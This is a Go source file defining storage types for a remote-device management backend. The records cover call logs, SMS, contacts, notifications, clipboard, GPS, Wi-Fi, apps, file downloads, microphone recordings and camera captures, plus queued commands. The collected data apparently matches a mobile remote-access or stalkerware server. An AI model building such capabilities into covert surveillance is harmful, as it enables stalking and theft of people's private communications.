package store

import (
	"time"

	"github.com/fleetlink/fleetlink/internal/geo"
	"github.com/fleetlink/fleetlink/internal/protocol"
)

// DefaultDeviceID is used when a connecting channel supplies no identity.
const DefaultDeviceID = "unknown"

// Device is the durable record of a remote agent.
type Device struct {
	ID        string         `json:"deviceID"`
	FirstSeen time.Time      `json:"firstSeen"`
	LastSeen  time.Time      `json:"lastSeen"`
	Online    bool           `json:"isOnline"`
	Metadata  DeviceMetadata `json:"dynamicData"`
}

// DeviceMetadata is the connection/device metadata captured on each arrival.
type DeviceMetadata struct {
	Address      string        `json:"address"`
	Geo          *geo.Location `json:"geo,omitempty"`
	Model        string        `json:"model"`
	Manufacturer string        `json:"manufacturer"`
	OSVersion    string        `json:"osVersion"`
}

// QueueEntry is a command persisted for an offline device.
type QueueEntry struct {
	Token    string           `json:"uid"`
	Kind     protocol.Kind    `json:"kind"`
	Payload  protocol.Payload `json:"payload"`
	QueuedAt time.Time        `json:"queuedAt"`
}

// GPSSettings holds the per-device poll interval in seconds; 0 disables
// polling.
type GPSSettings struct {
	UpdateFrequency int `json:"updateFrequency"`
}

// Stored telemetry records. Each embeds its report shape and carries the
// content fingerprint it is keyed by.

type CallRecord struct {
	protocol.CallEntry
	Fingerprint string `json:"fingerprint"`
}

type SMSRecord struct {
	protocol.SMSEntry
	Fingerprint string `json:"fingerprint"`
}

type ContactRecord struct {
	protocol.ContactEntry
	Fingerprint string `json:"fingerprint"`
}

type NotificationRecord struct {
	protocol.NotificationReport
	Fingerprint string `json:"fingerprint"`
}

// WifiRecord tracks a sighted network; re-sighting refreshes LastSeen
// instead of inserting a duplicate.
type WifiRecord struct {
	protocol.WifiNetwork
	Fingerprint string    `json:"fingerprint"`
	FirstSeen   time.Time `json:"firstSeen"`
	LastSeen    time.Time `json:"lastSeen"`
}

type ClipboardRecord struct {
	Time    time.Time `json:"time"`
	Content string    `json:"content"`
}

type GPSRecord struct {
	Time time.Time `json:"time"`
	protocol.LocationReport
}

// DownloadRecord points at a persisted blob. Type is "download" for file
// transfers and "voiceRecord" for microphone captures.
type DownloadRecord struct {
	Time         time.Time `json:"time"`
	Type         string    `json:"type"`
	OriginalName string    `json:"originalName"`
	BlobKey      string    `json:"path"`
	Size         int       `json:"size"`
}

type CameraShotRecord struct {
	Time     time.Time `json:"time"`
	CameraID *int      `json:"cameraId"`
	BlobKey  string    `json:"path"`
	Size     int       `json:"size"`
}

// Per-kind status documents: device-reported errors are data, recorded here,
// never surfaced as faults.

type SMSStatus struct {
	LastError   *string    `json:"lastError"`
	LastUpdated *time.Time `json:"lastUpdated"`
	ItemCount   int        `json:"itemCount"`
	Truncated   bool       `json:"truncated"`
}

type WifiStatus struct {
	LastError         *string    `json:"lastError"`
	LastUpdated       *time.Time `json:"lastUpdated"`
	NetworkCount      int        `json:"networkCount"`
	ScanRequested     bool       `json:"scanRequested"`
	LastScanTimestamp int64      `json:"lastScanTimestamp"`
	LocationEnabled   *bool      `json:"locationEnabled"`
	HasFineLocation   *bool      `json:"hasFineLocation"`
	HasCoarseLocation *bool      `json:"hasCoarseLocation"`
}

type FileStatus struct {
	LastError   *string    `json:"lastError"`
	LastUpdated *time.Time `json:"lastUpdated"`
	LastPath    string     `json:"lastPath"`
}

type AppsStatus struct {
	LastError        *string    `json:"lastError"`
	LastUpdated      *time.Time `json:"lastUpdated"`
	AppCount         int        `json:"appCount"`
	IncludeSystem    bool       `json:"includeSystem"`
	TotalPackages    int        `json:"totalPackages"`
	ReturnedPackages int        `json:"returnedPackages"`
	Filtered         bool       `json:"filtered"`
}

type ClipboardStatus struct {
	LastError   *string    `json:"lastError"`
	LastUpdated *time.Time `json:"lastUpdated"`
}
